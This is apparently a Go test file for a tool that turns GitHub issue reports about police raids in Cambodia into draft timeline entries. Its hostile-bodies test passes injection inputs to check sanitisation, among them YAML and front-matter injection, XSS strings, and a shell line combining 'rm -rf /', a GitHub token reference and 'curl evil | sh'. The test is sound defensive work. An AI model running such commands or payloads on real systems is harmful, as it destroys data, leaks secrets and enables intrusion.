package report

import (
	"os"
	"strings"
	"testing"
	"testing/fstest"

	"timeline/internal/content"
)

// sample is a body as GitHub writes it from the form.
const sample = `### Headline

Police raid a compound in Snuol

### Date

2025-07-16

### Operation

2025

### Provinces

Kratie, sihanoukville

### Kind of event

raid

### What happened

Police raided a compound and detained 312 people [1].

### Figures

arrested: 312
women: 20+
hundreds were seen

### Sources

https://example.org/report
See also <https://example.org/other>.
`

// load checks a draft entry the way check does, in a site with the
// operation 2025.
func load(t *testing.T, path, text string) (*content.Site, content.Problems) {
	t.Helper()
	provinces, err := os.ReadFile("../../content/provinces.yaml")
	if err != nil {
		t.Fatal(err)
	}
	m := fstest.MapFS{
		"content/site.yaml":      {Data: []byte("title: \"T\"\nbase_url: \"https://example.org/\"\n")},
		"content/provinces.yaml": {Data: provinces},
		"content/operations/2025.md": {Data: []byte("---\nname: \"2025 crackdown\"\nstart: 2025-06-27\nend: ongoing\n" +
			"sources:\n  - {title: \"R\", publisher: \"P\", url: \"https://example.org/r\"}\n---\n")},
		path: {Data: []byte(text)},
	}
	return content.Load(m, content.Options{Drafts: true})
}

func site(t *testing.T) Site {
	s, _ := load(t, "content/pages/x.md", "---\ntitle: \"x\"\n---\n")
	return Site{Provinces: s.Provinces, Operations: []string{"2025"}}
}

func TestDraftFromSample(t *testing.T) {
	e := Draft(Parse(strings.ReplaceAll(sample, "\n", "\r\n")), site(t), 42)
	want := `---
# A draft made from event report #42. Check every value against the sources,
# complete what is missing, then delete the line draft: true. See CONTRIBUTING.md.
title: "Police raid a compound in Snuol"
date: 2025-07-16
operation: "2025"
provinces: ["Kratie", "Preah Sihanouk"]
kind: raid
summary: "TODO: one sentence"
# figure line not read: "hundreds were seen"
figures:
  arrested: 312
  women: "20+"
sources:
  - title: "TODO: the article's title as published"
    publisher: "TODO: the outlet"
    url: "https://example.org/report"
  - title: "TODO: the article's title as published"
    publisher: "TODO: the outlet"
    url: "https://example.org/other"
draft: true
---
Police raided a compound and detained 312 people [1].
`
	if e.Text != want {
		t.Errorf("got:\n%s\nwant:\n%s", e.Text, want)
	}
	s, ps := load(t, "content/entries/2025/police-raid-a-compound-in-snuol-42.md", e.Text)
	if len(ps) > 0 {
		t.Fatalf("the draft does not pass check: %v", ps)
	}
	if len(s.Entries) != 1 || s.Entries[0].Figures[0].Values[0].N != 312 {
		t.Fatalf("entries: %+v", s.Entries)
	}
	if len(s.Warnings) != 5 { // summary, and two sources' title and publisher
		t.Errorf("warnings: %d, want 5: %v", len(s.Warnings), s.Warnings)
	}
}

// TestDraftFromHostileBodies: whatever the body says, the draft is a
// draft entry that check reads without errors, with no field the form
// does not fill, its title the headline's first line, and no HTML.
func TestDraftFromHostileBodies(t *testing.T) {
	bodies := map[string]string{
		"empty":             "",
		"no headings":       "Just some text with a link https://example.org/x",
		"no response":       "### Headline\n\n_No response_\n\n### Date\n\n_No response_\n\n### Sources\n\n_No response_\n",
		"yaml injection":    "### Headline\n\nRaid\"\ndraft: false\nevil: \"yes\n\n### Date\n\n2025-07-16\ndraft: false\n\n### Operation\n\n2025\"\nevil: 1\n",
		"front matter end":  "### Headline\n\n---\n\n### What happened\n\n---\nevil: true\n---\n",
		"shell syntax":      "### Headline\n\n$(rm -rf /) `id` ${{ github.token }} && curl evil | sh\n\n### Date\n\n2025-07-16\n",
		"html and scripts":  "### Headline\n\n<script>alert(1)</script>\n\n### What happened\n\n<img src=x onerror=alert(1)> <b>bold</b>\n\n### Sources\n\njavascript:alert(1)\nftp://example.org/x\nhttps://example.org/ok\n",
		"bad values":        "### Date\n\n2025-02-30\n\n### Operation\n\nNot sure\n\n### Provinces\n\nAtlantis, [Kratie]], nationwide\n\n### Kind of event\n\nraid\"; evil\n\n### Figures\n\narrested: 1e9\nkilled: 5\nfoo: bar: baz\narrested: -3\n",
		"control and huge":  "### Headline\n\nA\x00B\x1b[31mC\u2028D\ufeff" + strings.Repeat("x", 1000) + "\n\n### What happened\n\n" + strings.Repeat("word ", 20000),
		"unicode and quote": "### Headline\n\nPolice say \"no comment\" in Phnom Penh — ភ្នំពេញ \\ back\\slash\n\n### Date\n\n2025-07\n",
		"tabs and yaml":     "### Headline\n\n\t- [a, b]: {c: d}\n\n### Provinces\n\n\tKratie\n",
	}
	for name, body := range bodies {
		t.Run(name, func(t *testing.T) {
			e := Draft(Parse(body), site(t), 7)
			year := "2025"
			if e.Date == nil {
				year = "2026"
			}
			s, ps := load(t, "content/entries/"+year+"/report-7.md", e.Text)
			if len(ps) > 0 {
				t.Fatalf("check finds errors in the draft:\n%v\n%s", ps, e.Text)
			}
			if len(s.Entries) > 0 && !s.Entries[0].Draft {
				t.Errorf("not a draft:\n%s", e.Text)
			}
			front := strings.SplitN(e.Text, "---\n", 3)[1]
			for _, l := range strings.Split(front, "\n") {
				if l == "" || strings.HasPrefix(l, "#") || strings.HasPrefix(l, "  ") {
					continue
				}
				key, _, _ := strings.Cut(l, ":")
				switch key {
				case "title", "date", "operation", "provinces", "kind", "summary", "figures", "sources", "draft":
				default:
					t.Errorf("unexpected line %q in the front matter:\n%s", l, e.Text)
				}
			}
			if strings.Count(e.Text, "\ndraft: true\n") != 1 || strings.Contains(e.Text, "draft: false") && !strings.Contains(e.Text, "# ") {
				t.Errorf("draft line:\n%s", e.Text)
			}
			for _, en := range s.Entries {
				html, err := en.HTML()
				if err != nil {
					t.Fatal(err)
				}
				if strings.Contains(string(html), "<script") || strings.Contains(string(html), "<img") || strings.Contains(string(html), "<b>") {
					t.Errorf("HTML reached the page: %s", html)
				}
				if strings.ContainsAny(en.Title, "\n\x00\x1b") || len([]rune(en.Title)) > maxFieldLength {
					t.Errorf("title %q", en.Title)
				}
			}
		})
	}
}
